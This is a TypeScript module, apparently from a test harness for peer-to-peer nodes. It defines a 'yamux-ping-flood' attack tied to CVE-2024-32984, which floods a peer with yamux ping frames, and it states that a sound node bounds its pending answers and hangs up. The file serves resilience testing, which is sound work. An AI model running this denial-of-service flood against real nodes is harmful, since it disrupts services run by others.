import type { Attack } from "../../attack.ts";
import { YAMUX_FLAG, YAMUX_TYPE, yamuxFrame } from "../../yamux_frames.ts";

export const yamuxPing: Attack = {
  name: "yamux-ping-flood",
  group: "below",
  what: "Floods pings of the multiplexer, which must be answered one by one.",
  source: "CVE-2024-32984",
  sound: "Bounds the answers that wait, and hangs up within a heartbeat.",
  hangsUp: true,
  async run({ join, flood }) {
    // Bare: a multiplexer of ours would end the session at the answer to a ping that it has not sent.
    const peer = await join({ bare: true });
    if (peer === null) return;
    let id = 1_000_000;
    const next = () => ({ bytes: yamuxFrame(YAMUX_TYPE.ping, YAMUX_FLAG.syn, 0, id++), messages: 0 });
    await flood(peer, next, { channel: peer.transport });
  },
};
